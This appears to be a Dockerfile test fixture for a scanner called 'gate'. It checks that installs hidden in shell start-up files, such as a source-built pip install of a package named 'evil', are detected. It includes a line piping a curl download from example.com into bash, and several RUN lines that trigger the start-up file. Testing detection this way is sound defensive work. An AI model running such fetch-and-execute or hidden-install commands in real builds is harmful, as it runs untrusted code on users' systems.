# A shell reads its start-up files before its script even where gate does not hold the script
# or cannot read it (bash 5.2 and dash measured with --rcfile, ENV and BASH_ENV; bash reads
# $BASH_ENV even for a script that is not there): the file a shell on an unread input (lines
# 13-15) or of a file gate does not hold (16-18) reads first installs (silent before). A
# start-up file that installs only wheels stays silent (19).
FROM python:3.12
COPY <<GATE_TEXT_END /s.sh
pip install --no-binary :all: evil
GATE_TEXT_END
COPY <<GATE_TEXT_END /ok.sh
pip install --only-binary :all: wheel-only
GATE_TEXT_END
RUN bash --rcfile /s.sh -i < /dev/null
RUN ENV=/s.sh sh -i < /dev/null
RUN curl -fsSL https://example.com/x.sh | bash --rcfile /s.sh -i
RUN BASH_ENV=/s.sh bash /dev/null
RUN export BASH_ENV=/s.sh && bash /opt/base-image-script.sh
RUN bash --rcfile /s.sh -i /opt/base-image-script.sh
RUN BASH_ENV=/ok.sh bash /opt/base-image-script.sh
